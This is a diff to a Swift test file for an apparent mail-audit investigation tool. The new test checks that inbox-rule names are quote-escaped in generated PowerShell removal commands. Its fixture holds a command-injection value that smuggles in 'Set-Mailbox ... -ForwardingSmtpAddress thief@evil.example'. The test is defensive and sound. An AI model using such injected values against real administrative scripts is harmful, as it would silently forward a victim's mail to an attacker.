@@ -216,6 +216,22 @@ struct InvestigateCommandTests {
         #expect(!html.contains("src=\"http") && !html.contains("href=\"http"), "nothing is loaded from elsewhere")
     }
 
+    @Test("a rule name cannot close the quotes of the removal command and append its own", arguments: ["'", "\u{2018}", "\u{2019}", "\u{201A}", "\u{201B}"])
+    func quotedRuleName(quote: String) throws {
+        let directory = try TemporaryDirectory()
+        let name = "x\(quote); Set-Mailbox megan -ForwardingSmtpAddress thief@evil.example; \(quote)"
+        let parameters = [["Name": "Name", "Value": name], ["Name": "MoveToFolder", "Value": "RSS Feeds"], ["Name": "DeleteMessage", "Value": "True"]]
+        let record: [String: Any] = [
+            "CreationTime": "2026-11-20T09:10:00", "Id": "3b0a1e1c-1111-4a5b-8c6d-000000000011", "Operation": "New-InboxRule",
+            "OrganizationId": "9f1c7b2e-4a8d-4c3f-b5e6-2d7a8c9e0f11", "RecordType": 1, "UserType": 0, "Workload": "Exchange",
+            "UserId": "megan.bowen@contoso.com", "ResultStatus": "True", "ClientIP": "45.148.10.77", "Parameters": parameters,
+        ]
+        let input = try directory.write("rule.jsonl", Array(try JSONSerialization.data(withJSONObject: record)))
+        let (output, _) = try investigate([input])
+        let removal = try #require(output.incidents.flatMap { $0.checklist.flatMap(\.items) }.first { $0.contains("Remove-InboxRule") })
+        #expect(removal.contains("-Identity 'x\(quote)\(quote); Set-Mailbox megan -ForwardingSmtpAddress thief@evil.example; \(quote)\(quote)'"), "\(removal)")
+    }
+
     @Test("files or an archive, not neither nor both")
     func validation() throws {
         #expect(try runner.run(["investigate"]).status != 0)
